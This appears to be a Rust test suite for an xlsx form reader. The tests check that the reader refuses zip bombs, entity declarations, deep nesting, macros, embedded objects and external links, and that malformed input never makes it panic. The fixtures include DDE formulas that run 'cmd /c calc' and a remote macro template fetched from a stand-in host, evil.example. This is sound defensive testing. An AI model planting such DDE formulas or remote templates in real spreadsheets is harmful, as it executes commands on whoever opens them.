//! Files that nobody sends by accident, and some that people do.

use base::Lang;
use paper::xlsx::{Fault, Limits, OtherKind, Refusal, read};
use proptest::prelude::*;

use crate::forms::full;
use crate::zips;

const SHEET: &str = "xl/worksheets/sheet1.xml";
const TYPES: &str = "[Content_Types].xml";
const RELS: &str = "xl/_rels/workbook.xml.rels";

fn refused(bytes: &[u8]) -> Refusal {
    let refusal = read(bytes, &Limits::default()).unwrap_err();
    for lang in Lang::ALL {
        assert!(!refusal.what(lang).is_empty() && !refusal.mend(lang).is_empty());
    }
    refusal
}

fn form() -> Vec<u8> {
    full().write().unwrap()
}

#[test]
fn bombs_are_not_unpacked() {
    // 200 MB of zeros in one part: refused by what the archive claims.
    let bomb = zips::add(&form(), "xl/comments1.xml", &vec![0; 200 << 20]);
    assert!(bomb.len() < 400_000);
    assert_eq!(refused(&bomb), Refusal::TooMuchInside("bytes"));
    // 20 MB that stay below the limit in all, but pack a thousandfold.
    let blanks = vec![b' '; 20 << 20];
    assert_eq!(refused(&zips::add(&form(), "xl/custom.xml", &blanks)), Refusal::TooMuchInside("bytes"));
    // A claim of 10 bytes for what unpacks to 20 MB.
    let mut lying = zips::add(&form(), "xl/custom.xml", &blanks);
    let claim = (20u32 << 20).to_le_bytes();
    while let Some(at) = lying.windows(4).position(|w| w == claim) {
        lying[at..at + 4].copy_from_slice(&10u32.to_le_bytes());
    }
    assert!(matches!(refused(&lying), Refusal::TooMuchInside("bytes") | Refusal::Damaged(_)));
    let many: Vec<_> = (0..300).map(|i| (format!("xl/p{i}.xml"), Vec::new())).collect();
    assert_eq!(refused(&zips::zip(&many)), Refusal::TooMuchInside("entries"));
    assert!(matches!(refused(&vec![b'P'; 5 << 20]), Refusal::TooLarge { .. }));
}

#[test]
fn numbers_in_the_file_reserve_no_memory() {
    let strings = "xl/sharedStrings.xml";
    let text = String::from_utf8(zips::parts(&form()).into_iter().find(|(n, _)| n == strings).unwrap().1).unwrap();
    let claim = text.split("uniqueCount=\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
    let greedy = zips::edit(&form(), strings, &format!("uniqueCount=\"{claim}\""), "uniqueCount=\"99999999999999\"");
    assert_eq!(refused(&greedy), Refusal::TooMuchInside("texts"));
    // A shared formula with a huge index, which one of the reader's ways would reserve memory for.
    let formula = "<c r=\"C2\"><f t=\"shared\" ref=\"C2:C3\" si=\"99999999999\">1+1</f><v>2</v></c></row>";
    let file = zips::edit(&form(), SHEET, "</row>", formula);
    read(&file, &Limits::default()).unwrap();
    // Addresses beyond a sheet, with which the reader would calculate.
    for row in ["<row r=\"99999999999\"/>", "<row r=\"1\"><c r=\"ZZZZZZZZZZ1\"><v>1</v></c></row>"] {
        let file = zips::edit(&form(), SHEET, "</sheetData>", &format!("{row}</sheetData>"));
        assert!(matches!(refused(&file), Refusal::Damaged(_)));
    }
    for range in ["A99999999999", "A1:A0", "XFE1", "1:2:3", ""] {
        let file = zips::edit(&form(), SHEET, "<sheetData>", &format!("<dimension ref=\"{range}\"/><sheetData>"));
        assert!(matches!(refused(&file), Refusal::Damaged(_)), "{range}");
    }
    let file = zips::edit(&form(), SHEET, "<sheetData>", "<dimension ref=\"C9:A1\"/><sheetData>");
    assert!(matches!(refused(&file), Refusal::Damaged(_)));
    // Far away cells cost nothing.
    let file = zips::edit(&form(), SHEET, "</row></sheetData>", "<c r=\"XFD1048576\"><v>1</v></c></row></sheetData>");
    assert!(!read(&file, &Limits::default()).unwrap().answers(&full()).errors.is_empty());
}

#[test]
fn xml_is_plain_and_flat() {
    let doctype = "<!DOCTYPE worksheet [<!ENTITY a \"aaaa\">]><worksheet";
    assert!(matches!(refused(&zips::edit(&form(), SHEET, "<worksheet", doctype)), Refusal::Damaged(_)));
    let deep = format!("{}{}", "<x>".repeat(100), "</x>".repeat(100));
    assert_eq!(
        refused(&zips::edit(&form(), SHEET, "<sheetData>", &format!("{deep}<sheetData>"))),
        Refusal::TooMuchInside("nesting")
    );
    let wide: String = (0..3000).map(|i| format!(" a{i}=\"\"")).collect();
    assert_eq!(
        refused(&zips::edit(&form(), SHEET, "<sheetData>", &format!("<y{wide}/><sheetData>"))),
        Refusal::TooMuchInside("tag")
    );
}

#[test]
fn active_content_is_refused_by_its_name() {
    let macros = zips::add(&form(), "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0");
    assert_eq!(refused(&macros), Refusal::Macros("xl/vbaproject.bin".into()));
    let xlsm = zips::edit(
        &form(),
        TYPES,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    );
    assert!(matches!(refused(&xlsm), Refusal::Macros(_)));

    let link = "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><externalBook/></externalLink>";
    let external = zips::add(&form(), "xl/externalLinks/externalLink1.xml", link.as_bytes());
    assert_eq!(refused(&external), Refusal::ExternalLink("xl/externallinks/externallink1.xml".into()));
    let dde = link.replace("<externalBook/>", "<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/>");
    assert_eq!(refused(&zips::add(&form(), "xl/externalLinks/externalLink1.xml", dde.as_bytes())), Refusal::Dde);
    let remote = "<Relationship Id=\"x\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" \
                  Target=\"http://evil.example/a.xltm\" TargetMode=\"External\"/></Relationships>";
    assert_eq!(
        refused(&zips::edit(&form(), RELS, "</Relationships>", remote)),
        Refusal::ExternalLink("http://evil.example/a.xltm".into())
    );
    let formula = "<c r=\"J2\"><f>cmd|'/c calc'!A0</f><v>0</v></c></row>";
    assert_eq!(refused(&zips::edit(&form(), SHEET, "</row>", formula)), Refusal::Dde);
    let formula = "<c r=\"J2\"><f>DDE(&quot;soffice&quot;,&quot;a&quot;)</f><v>0</v></c></row>";
    assert_eq!(refused(&zips::edit(&form(), SHEET, "</row>", formula)), Refusal::Dde);

    let ole = zips::add(&form(), "xl/embeddings/oleObject1.bin", b"x");
    assert!(matches!(refused(&ole), Refusal::EmbeddedObject(_)));
    assert!(matches!(refused(&zips::add(&form(), "xl/connections.xml", b"<connections/>")), Refusal::ExternalLink(_)));
    // Excel makes typed addresses hyperlinks; that is no reason to refuse.
    let hyperlink = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" \
                     Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" \
                     Target=\"https://a.example/\" TargetMode=\"External\"/></Relationships>";
    read(&zips::add(&form(), "xl/worksheets/_rels/sheet1.xml.rels", hyperlink.as_bytes()), &Limits::default()).unwrap();
}

#[test]
fn other_kinds_are_called_by_their_name() {
    let ole = |name: &str| {
        let mut bytes = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
        bytes.resize(1024, 0);
        bytes.extend(name.encode_utf16().flat_map(u16::to_le_bytes));
        bytes
    };
    assert_eq!(refused(&ole("EncryptedPackage")), Refusal::Encrypted);
    assert_eq!(refused(&ole("Workbook")), Refusal::OtherKind(OtherKind::Xls));
    assert_eq!(refused(b"%PDF-1.7"), Refusal::OtherKind(OtherKind::Pdf));
    assert_eq!(refused("氏名,住所\r\n".as_bytes()), Refusal::OtherKind(OtherKind::Text));
    assert_eq!(refused(b""), Refusal::OtherKind(OtherKind::Empty));
    assert_eq!(refused(b"\0\x01\x02"), Refusal::OtherKind(OtherKind::Unknown));
    let zip =
        |names: &[&str]| zips::zip(&names.iter().map(|n| ((*n).to_owned(), b"<x/>".to_vec())).collect::<Vec<_>>());
    assert_eq!(refused(&zip(&["mimetype", "content.xml"])), Refusal::OtherKind(OtherKind::Ods));
    assert_eq!(refused(&zip(&["photo.jpg"])), Refusal::OtherKind(OtherKind::Zip));
    assert_eq!(refused(&zip(&[TYPES, "word/document.xml"])), Refusal::OtherKind(OtherKind::OtherOffice));
    assert_eq!(refused(&zip(&[TYPES, "xl/workbook.bin"])), Refusal::OtherKind(OtherKind::Xlsb));
    let whole = form();
    assert!(matches!(refused(&whole[..whole.len() / 2]), Refusal::Damaged(_)));
    // A workbook of somebody's own.
    let own = zips::edit(&whole, "xl/sharedStrings.xml", "#enishi-form 1 ", "#other 1 ");
    assert_eq!(refused(&own), Refusal::NotOurForm);
}

#[test]
fn formulas_and_error_values_are_named_by_cell() {
    let sheet = String::from_utf8(zips::parts(&form()).into_iter().find(|(n, _)| n == SHEET).unwrap().1).unwrap();
    // The input cell of the first field: the row whose hidden cell says "#field name".
    let answers = read(&form(), &Limits::default()).unwrap().answers(&full());
    let paper::xlsx::Answer::One(entry) = &answers.answers["postal"] else { panic!() };
    let cell = entry.at.cell();
    let from = sheet.find(&format!("<c r=\"{cell}\"")).unwrap();
    let old = &sheet[from..from + sheet[from..].find("</c>").unwrap() + 4];
    let file = zips::edit(&form(), SHEET, old, &format!("<c r=\"{cell}\"><f>SUM(1,2)</f><v>3</v></c>"));
    let answers = read(&file, &Limits::default()).unwrap().answers(&full());
    assert_eq!(answers.errors.len(), 1);
    assert_eq!(answers.errors[0].fault, Fault::Formula);
    assert!(!answers.answers.contains_key("postal"));
    assert_eq!(
        answers.errors[0].message(Lang::Ja),
        format!("シート「設定」のセル {cell}（項目 postal）：数式が入っています。数式ではなく、値を入力してください。")
    );
    let file = zips::edit(&form(), SHEET, old, &format!("<c r=\"{cell}\" t=\"e\"><v>#N/A</v></c>"));
    let answers = read(&file, &Limits::default()).unwrap().answers(&full());
    assert_eq!(answers.errors[0].fault, Fault::ErrorValue("#N/A".into()));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn noise_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..2000), zip in any::<bool>()) {
        let mut bytes = bytes;
        if zip {
            bytes.splice(0..0, *b"PK\x03\x04");
        }
        let _ = read(&bytes, &Limits::default());
    }

    #[test]
    fn damaged_files_never_panic(noise in proptest::collection::vec((any::<usize>(), any::<u8>()), 1..20), cut in any::<usize>()) {
        let mut bytes = form();
        for (at, value) in noise {
            let at = at % bytes.len();
            bytes[at] = value;
        }
        if cut % 3 == 0 {
            bytes.truncate(cut % bytes.len());
        }
        let _ = read(&bytes, &Limits::default()).map(|filled| filled.answers(&full()));
    }

    /// Behind an intact archive: pieces of XML exchanged, doubled and cut.
    #[test]
    fn damaged_xml_never_panics(
        part in any::<usize>(), from in any::<usize>(), length in 0usize..60, to in any::<usize>(), digits in any::<bool>(),
    ) {
        let mut all = zips::parts(&form());
        let which = part % all.len();
        let content = &mut all[which].1;
        let text = String::from_utf8(content.clone()).unwrap();
        let chars: Vec<char> = text.chars().collect();
        let from = from % chars.len();
        let piece: Vec<char> = chars[from..(from + length).min(chars.len())].to_vec();
        let mut changed = chars.clone();
        if digits {
            for c in changed.iter_mut().skip(from).filter(|c| c.is_ascii_digit()).take(length % 7) {
                *c = '9';
            }
        } else {
            let to = to % changed.len();
            let end = (to + length / 2).min(changed.len());
            changed.splice(to..end, piece);
        }
        *content = changed.into_iter().collect::<String>().into_bytes();
        let _ = read(&zips::zip(&all), &Limits::default()).map(|filled| filled.answers(&full()));
    }
}
